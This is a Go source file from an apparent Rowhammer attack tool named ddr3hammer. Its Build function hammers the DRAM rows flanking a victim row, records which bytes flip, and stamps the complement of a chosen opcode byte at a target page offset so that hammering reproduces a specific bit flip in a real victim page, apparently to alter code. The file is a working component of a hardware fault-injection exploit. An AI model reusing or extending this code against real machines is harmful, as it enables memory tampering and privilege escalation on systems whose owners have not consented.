// This file is part of ddr3hammer.
//
// ddr3hammer is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// ddr3hammer is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with ddr3hammer.  If not, see <https://www.gnu.org/licenses/>.

package mask

import (
	"github.com/jetsetilly/ddr3hammer/ddrerr"
	"github.com/jetsetilly/ddr3hammer/internal/config"
	"github.com/jetsetilly/ddr3hammer/internal/dram"
	"github.com/jetsetilly/ddr3hammer/internal/hugebuf"
	"github.com/jetsetilly/ddr3hammer/internal/scan"
)

// AggressorMask is the payload written into both rows flanking a victim
// before the priming hammer: two 4 KiB pages' worth of bytes.
type AggressorMask [dram.RowSize]byte

// Hammerer is the row-activation dependency Build needs, injected the same
// way internal/scan takes one.
type Hammerer interface {
	Hammer(a, b *byte, activations uint64)
}

func fillRow(buf *hugebuf.Buffer, rowStart uint64, value byte) {
	for i := uint64(0); i < dram.RowSize; i++ {
		*buf.At(rowStart + i) = value
	}
}

// Build calibrates an aggressor mask against tmpl: it hammers both flip
// directions once, records which byte positions actually moved in the
// victim row, composes them (0->1 wins ties), and finally stamps the
// template's own offset with the bitwise complement of opcodeByte - the
// byte that, written into both flanking rows and hammered against the
// real victim page, is meant to reproduce the template's flip.
func Build(buf *hugebuf.Buffer, cfg dram.Config, tmpl scan.Template, opcodeByte byte, hcfg config.HammerConfig, h Hammerer) (AggressorMask, error) {
	var result AggressorMask

	vicRow := dram.RowAlign(cfg, uint64(tmpl.Addr))
	agg1Row := dram.AdjacentRow(cfg, vicRow, dram.PrevRow)
	agg2Row := dram.AdjacentRow(cfg, vicRow, dram.NextRow)

	rowOffset := uint64(tmpl.Addr) - vicRow
	if rowOffset >= dram.RowSize {
		return AggressorMask{}, ddrerr.Errorf(ddrerr.ConfigurationError, "template address falls outside its own row")
	}
	pageOffset := uint64(tmpl.Op.FileOffset) & (dram.PageSize - 1)

	a1 := buf.At(agg1Row)
	a2 := buf.At(agg2Row)

	// 1->0 probe: aggressors low, victim high. Any byte that drops from
	// 0xFF is a position this mask should set.
	fillRow(buf, agg1Row, 0x00)
	fillRow(buf, agg2Row, 0x00)
	fillRow(buf, vicRow, 0xFF)
	h.Hammer(a1, a2, hcfg.Activations)
	for i := uint64(0); i < dram.RowSize; i++ {
		if *buf.At(vicRow+i) != 0xFF {
			result[i] = 0xFF
		}
	}

	// 0->1 probe: aggressors high, victim low. Any byte that rises from
	// 0x00 is a position this mask should clear - and takes precedence
	// over a 1->0 hit at the same position.
	fillRow(buf, agg1Row, 0xFF)
	fillRow(buf, agg2Row, 0xFF)
	fillRow(buf, vicRow, 0x00)
	h.Hammer(a1, a2, hcfg.Activations)
	for i := uint64(0); i < dram.RowSize; i++ {
		if *buf.At(vicRow+i) != 0x00 {
			result[i] = 0x00
		}
	}

	result[pageOffset] = ^opcodeByte

	return result, nil
}
